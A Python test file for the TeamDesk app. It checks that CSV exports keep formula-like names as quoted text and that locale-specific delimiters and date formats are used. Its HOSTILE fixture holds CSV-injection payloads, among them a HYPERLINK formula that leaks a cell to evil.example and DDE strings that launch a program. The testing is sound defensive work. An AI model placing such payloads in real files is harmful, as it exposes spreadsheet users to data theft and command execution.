"""A name that starts like a formula (``=HYPERLINK(...)``, ``@SUM(...)``) stays text in every CSV
TeamDesk writes: the script CSV, the Excel CSV of the coordinator overview and the meetings CSV.
Each file is read back as a spreadsheet would read it."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, time, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.plan_support import PlanHouse, build_plan_house

from teamdesk import cli
from teamdesk.domain.plan import ParticipantKind
from teamdesk.reports.csv_table import csv_text, spreadsheet_safe
from teamdesk.services.meetings import MeetingService
from teamdesk.services.mentoring import MentoringService
from teamdesk.services.plan import PlanService
from teamdesk.services.signin import set_up_first_administrator
from teamdesk.services.team import TeamService
from teamdesk.store.keyring import FAST_KDF
from teamdesk.store.paths import DataLocation

SRC = Path(__file__).resolve().parents[2] / "src" / "teamdesk"
PASSWORD = "correct horse battery staple 2026"

# What a spreadsheet runs: a cell that starts with = + - @ (also after spaces), a tab or a CR.
HOSTILE = {
    "coordinator": '=HYPERLINK("http://evil.example/?x="&A1,"Berit")',
    "mentee": "+1+cmd|' /C calc'!A0",
    "unit": "-2+3+cmd|' /C calc'!A0",
    "resident": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "  =1+1",
}


def _is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


def _read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@given(st.text())
def test_any_text_cell_reads_back_as_itself_or_quoted_and_never_as_a_formula(text: str) -> None:
    [[cell, after]] = _read(csv_text([[text, "x"]]))
    assert after == "x"
    assert cell in (text, "'" + text)
    assert not _is_formula(cell)
    if not _is_formula(text):
        assert cell == text  # ordinary names are left exactly as they are


@pytest.mark.parametrize(
    "cell", ["=1+1", "+47 900 00 000", "-5", "@x", "\t=1", "\r=1", " =1", "\u00a0@x", "\n+x"]
)
def test_each_formula_start_gets_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


def test_numbers_and_plain_names_are_left_alone() -> None:
    assert [spreadsheet_safe(c) for c in (-3, 2.5, "Åse Hansen", "", "O'Neil")] == [
        -3,
        2.5,
        "Åse Hansen",
        "",
        "O'Neil",
    ]


def test_no_csv_is_written_around_the_one_safe_writer() -> None:
    """Every CSV goes through reports/csv_table.py: nothing else calls the csv module's
    writers, so a new export cannot forget the formula rule."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path.name == "csv_table.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


# -- every writer, with hostile names stored through the services ----------------------------


@dataclass
class HostileFolder:
    location: DataLocation
    house: PlanHouse
    meeting: str


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileFolder]:
    """A data folder whose coordinator, mentee, unit, resident and meeting place all start
    like formulas, with an administrator the CLI signs in as."""
    location = DataLocation(tmp_path / "data", "test")
    session = set_up_first_administrator(location, "Admin", PASSWORD, kdf=FAST_KDF)
    try:
        ctx = session.ctx
        h = build_plan_house(ctx)
        team = TeamService(ctx)
        team.update_staff(h.berit, name=HOSTILE["coordinator"])
        team.update_resident(h.resident, name=HOSTILE["resident"])
        ctx.store.update("unit", h.unit, {"name": HOSTILE["unit"]}, actor=ctx.who)
        # A new coordinator with Berit as mentor: the mentee's name is in Berit's row.
        mentee = team.create_staff(HOSTILE["mentee"], unit_id=h.unit).row_id or ""
        plans = PlanService(ctx)
        other = team.create_resident("Kari Nordmann", unit_id=h.unit).row_id or ""
        plans.assign_coordinator(plans.create_plan(other).row_id or "", mentee)
        MentoringService(ctx).start_mentorship(h.berit, mentee)
        meeting = MeetingService(ctx).prepare_meeting(
            h.plan,
            day=date.today() + timedelta(days=10),
            start=time(10, 0),
            place=HOSTILE["place"],
        )
        MeetingService(ctx).add_participant(
            meeting.row_id or "", "Dr. Moen", ParticipantKind.SERVICE
        )
    finally:
        session.sign_out()
    monkeypatch.setenv(cli.ENV_PASSWORD, PASSWORD)
    yield HostileFolder(location, h, meeting.row_id or "")


def _cells(table: list[list[str]]) -> set[str]:
    return {cell for row in table for cell in row}


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert cli.main(list(args)) == cli.EXIT_OK, capsys.readouterr().err
    return capsys.readouterr().out


def test_the_scripts_csv_of_the_coordinator_overview_keeps_formulas_as_text(
    hostile: HostileFolder, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _cli(
        capsys,
        "report",
        "coordinators",
        "--data-dir",
        str(hostile.location.directory),
        "--user",
        "Admin",
        "--format",
        "csv",
    )
    table = _read(out)
    cells = _cells(table)
    for what in ("coordinator", "unit", "mentee"):
        assert "'" + HOSTILE[what] in cells, what
    assert not [c for c in cells if _is_formula(c)]


def test_the_excel_csv_of_the_coordinator_overview_keeps_formulas_as_text(
    hostile: HostileFolder, tmp_path: Path
) -> None:
    from teamdesk.services.signin import sign_in

    session = sign_in(hostile.location, "Admin", PASSWORD)
    try:
        out = MentoringService(session.ctx).export_overview(
            tmp_path / "o.csv", fmt="csv", translate=lambda text, *_: "nb" if text == "en" else text
        )
    finally:
        session.sign_out()
    table = _read(out.path.read_text("utf-8-sig"), delimiter=";")  # as Norwegian Excel reads it
    cells = _cells(table)
    for what in ("coordinator", "unit", "mentee"):
        assert "'" + HOSTILE[what] in cells, what
    assert not [c for c in cells if _is_formula(c)]


def test_the_meetings_csv_keeps_formulas_as_text(
    hostile: HostileFolder, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _cli(
        capsys,
        "report",
        "meetings",
        "--data-dir",
        str(hostile.location.directory),
        "--user",
        "Admin",
        "--format",
        "csv",
    )
    header, *rows = _read(out)
    [row] = [dict(zip(header, r, strict=True)) for r in rows if r[0] == hostile.meeting]
    assert row["resident"] == "'" + HOSTILE["resident"]
    assert row["place"] == "'" + HOSTILE["place"].strip()
    assert not [c for c in _cells(rows) if _is_formula(c)]


@pytest.mark.parametrize(
    ("language", "separator", "two_and_a_half"),
    [("en", ",", "2.5"), ("nb", ";", "2,5"), ("da", ";", "2,5")],
)
def test_a_file_for_a_spreadsheet_is_split_and_numbered_as_the_language_writes(
    language: str, separator: str, two_and_a_half: str
) -> None:
    # Issue 14: Excel set to Norwegian or Danish splits a CSV file at ";" and reads "2.5" as a
    # date or text; the comma is their decimal mark. Scripts' CSV on stdout stays ",".
    from teamdesk.reports.csv_table import spreadsheet_csv

    def translate(text: str) -> str:
        return language if text == "en" else text

    data = spreadsheet_csv([["Navn", "Tall"], ["=Øverland", 2.5], ["Åse", 3]], translate)
    assert data.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=separator))
    assert rows == [["Navn", "Tall"], ["'=Øverland", two_and_a_half], ["Åse", "3"]]
    assert csv_text([["a", 2.5]]) == "a,2.5\r\n"


@pytest.mark.parametrize(
    ("language", "written"), [("en", "2026-11-30"), ("nb", "30.11.2026"), ("da", "30.11.2026")]
)
def test_a_file_for_a_spreadsheet_writes_dates_as_the_language_does(
    language: str, written: str
) -> None:
    # Issue 14: a date in a Danish or Norwegian spreadsheet file reads 30.11.2026; the CSV for
    # scripts keeps ISO 8601.
    from teamdesk.reports.csv_table import spreadsheet_csv

    def translate(text: str, n: int = -1, /) -> str:
        if text == "en":
            return language
        if text == "{year}-{month}-{day}" and language != "en":
            return "{day}.{month}.{year}"
        return text

    data = spreadsheet_csv([["Dato"], [date(2026, 11, 30)]], translate).decode("utf-8-sig")
    assert data.splitlines()[1] == written
    assert csv_text([[date(2026, 11, 30)]]) == "2026-11-30\r\n"


def test_the_coordinator_overview_file_follows_the_language(tmp_path: Path) -> None:
    location = tmp_path / "data"
    from teamdesk.store.paths import DataLocation

    session = set_up_first_administrator(
        DataLocation(location, "test"), "Admin", "correct horse battery"
    )
    try:
        out = tmp_path / "overview.csv"
        MentoringService(session.ctx).export_overview(
            out, fmt="csv", translate=lambda text, *_: "da" if text == "en" else text
        )
        first = out.read_text(encoding="utf-8-sig").splitlines()[0]
        assert first.startswith("Coordinator;Unit;")
    finally:
        session.sign_out()
